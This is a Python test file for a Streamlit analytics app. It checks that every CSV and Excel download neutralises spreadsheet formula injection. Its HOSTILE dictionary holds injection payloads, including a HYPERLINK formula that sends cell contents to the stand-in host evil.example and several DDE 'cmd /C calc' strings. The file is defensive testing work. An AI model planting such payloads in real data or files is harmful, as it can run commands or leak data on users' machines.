"""Every download of every page, read back: with hostile values in the data none holds a cell a
spreadsheet would run as a formula. (With Anonymise on, every download, handouts and report
included, is read back for real names by tests/app/test_anonymise_everything.py, on the demo
with names planted everywhere.)

Each page runs in AppTest with ``st.download_button`` observed: what each button would hand
the user (its data, built as on a click) is read back with csv and openpyxl, PDFs with pypdf.
"""

from __future__ import annotations

import io
import unicodedata
import zipfile
from dataclasses import fields
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
import streamlit as st
from openpyxl import load_workbook
from pypdf import PdfReader

from analytics.ingest.pipeline import import_directory
from analytics.outputs.downloads import FORMULA_START
from analytics.settings import Settings
from analytics.store.workspace import Workspace
from tests.app.test_pages import PAGES, ROOT, app
from tests.unit.test_downloads import LEAD, formula_fields

DEMO = ROOT / "data" / "demo"
PREPARE = ("prep-handouts", "prep-report")


def file_text(name: str, data: bytes) -> str:
    suffix = name.rsplit(".", 1)[-1].lower()
    if suffix == "xlsx":
        wb = load_workbook(io.BytesIO(data))
        return "\n".join(str(c.value) for ws in wb for row in ws.iter_rows() for c in row if c.value is not None)
    if suffix == "pdf":
        return "\n".join(p.extract_text() or "" for p in PdfReader(io.BytesIO(data)).pages)
    if suffix == "zip":
        parts = []
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            for member in zf.namelist():
                raw = zf.read(member)
                parts.append(pq.read_table(io.BytesIO(raw)).to_pandas().to_csv() if member.endswith(".parquet")
                             else raw.decode("utf-8", "replace"))
        return "\n".join(parts)
    text = data.decode("utf-8-sig", "replace")
    if suffix == "json":  # a settings file's keys are the app's own setting names ("quota_end_grace_days"), not data
        for key in SETTING_NAMES:
            text = text.replace(f'"{key}"', '"setting"')
    return text


#: the settings' own names: vocabulary of the app, which a name word ("Grace") may share
SETTING_NAMES = sorted((f.name for f in fields(Settings)), key=len, reverse=True)


@pytest.fixture
def downloads(monkeypatch):
    """Every download button's file, as (page, file name, bytes), while the fixture is used."""
    seen: dict[tuple[str, str], bytes] = {}
    current = {"page": ""}
    original = st.download_button

    def observed(label, data=None, file_name=None, *args, **kwargs):
        payload = data() if callable(data) else data
        if isinstance(payload, str):
            payload = payload.encode("utf-8")
        if payload is not None and not kwargs.get("disabled"):
            seen[(current["page"], file_name or label)] = payload
        return original(label, data, file_name, *args, **kwargs)

    monkeypatch.setattr(st, "download_button", observed)
    return seen, current


def walk(at, current, prepare: tuple[str, ...] = PREPARE) -> None:
    """Open every page that offers a download and prepare the files built on a click
    (Presenter mode offers none: its screens are walked in the browser test)."""
    for page in PAGES:
        if page == "views/present.py":
            continue
        current["page"] = page
        at.switch_page(page).run()
        assert not at.exception, page
        for key in prepare:
            if any(b.key == key for b in at.button):
                at.button(key=key).click().run()
                assert not at.exception, (page, key)


HOSTILE = {
    "manager": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "rep": "+cmd|' /C calc'!A0",
    "team": "@SUM(1+1)*cmd|' /C calc'!A0",
    "product": "-2+3+cmd|' /C calc'!A0",
    # harmless split on commas; formulas where the list separator is ; or | (issue 16, item 5)
    "rep2": "Bo Ek;=2+5;cmd|' /C calc'!A0",
    "account": "Acme, \uff1dHYPERLINK(1)|@SUM(1)",
}


def hostile_workspace(folder: Path) -> Workspace:
    """The demo with a manager, one of their reps, their team and a product renamed to formulas."""
    people = pd.read_csv(DEMO / "people.csv")
    manager = people.loc[people["role"] == "Sales Manager", "name"].iloc[0]
    rep = people.loc[people["manager"] == manager, "name"].iloc[0]
    team = people.loc[people["name"] == manager, "team"].iloc[0]
    rep2 = people.loc[people["manager"] == manager, "name"].iloc[1]
    product = pd.read_csv(DEMO / "products.csv")["product"].iloc[0]
    account = pd.read_csv(DEMO / "accounts.csv")["name"].iloc[0]
    swaps = {manager: HOSTILE["manager"], rep: HOSTILE["rep"], team: HOSTILE["team"], product: HOSTILE["product"],
             rep2: HOSTILE["rep2"], account: HOSTILE["account"]}
    for src in sorted(DEMO.glob("*.csv")):
        frame = pd.read_csv(src, dtype=str, keep_default_na=False)
        frame.apply(lambda col: col.map(lambda v: swaps.get(v, v))).to_csv(folder / src.name, index=False)
    ws = Workspace()
    import_directory(ws, folder)
    ws.source, ws.label = "uploads", "Hostile copy of the demo"
    return ws


def formula_cells(name: str, data: bytes) -> list[str]:
    if name.endswith(".csv"):
        # opened with , ; tab or | as the separator, parsed or split naively
        return [f"{sep!r}: {cell!r}" for sep, cell in formula_fields(data.decode("utf-8-sig"))]
    bad = []
    for sheet in load_workbook(io.BytesIO(data)):
        for row in sheet.iter_rows():
            for c in row:
                if c.data_type == "f" or (isinstance(c.value, str) and c.value.lstrip(LEAD).startswith(FORMULA_START)):
                    bad.append(f"{sheet.title}!{c.coordinate}={c.value!r}")
    return bad


def test_hostile_values_come_out_of_every_table_download_as_text(downloads, tmp_path):
    seen, current = downloads
    ws = hostile_workspace(tmp_path)
    assert ws.scalar("SELECT count(*) FROM v_people WHERE name = ?", [HOSTILE["manager"]]) == 1
    at = app(ws).run()
    walk(at, current, prepare=())  # tables only: the PDF and HTML are not spreadsheets
    tables = {k: v for k, v in seen.items() if k[1].endswith((".csv", ".xlsx")) and not k[1].startswith("template")}
    assert len(tables) >= 60
    carried = dict.fromkeys(HOSTILE, 0)
    for (page, name), data in tables.items():
        bad = formula_cells(name, data)
        assert not bad, f"{page} / {name}: cells a spreadsheet would run: {bad[:5]}"
        text = file_text(name, data)
        for key, value in HOSTILE.items():  # apostrophes aside: one goes before each trigger
            # as imported: names are NFKC-normalised (the full-width ＝ reads =)
            value = unicodedata.normalize("NFKC", value)
            carried[key] += value.replace("'", "") in text.replace("'", "").replace('""', '"')
    # the hostile values reached the downloads, as text: the check above had something to check
    assert all(n > 0 for n in carried.values()), carried
